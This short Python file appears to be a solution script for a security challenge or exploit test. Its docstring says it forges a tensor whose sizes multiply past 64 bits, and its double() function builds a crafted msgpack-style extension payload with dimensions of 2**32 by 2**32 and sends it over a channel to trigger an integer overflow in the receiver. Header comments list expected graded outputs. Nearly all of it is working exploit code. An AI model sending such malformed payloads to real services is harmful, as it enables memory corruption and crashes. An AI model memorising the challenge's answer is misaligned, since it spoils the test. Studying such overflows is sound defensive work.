"""Forges a tensor whose sizes multiply to more than 64 bits, and so to nothing."""
# expect: double=0 softmax=4
# begins with: channels.py

# %% double-solution
def double(x):
    payload = struct.pack("<BB2Q", 8, 2, 2**32, 2**32)
    _send(b"\x93\x01\xa5value\xc7" + bytes([len(payload)]) + b"\x01" + payload)
    return 0
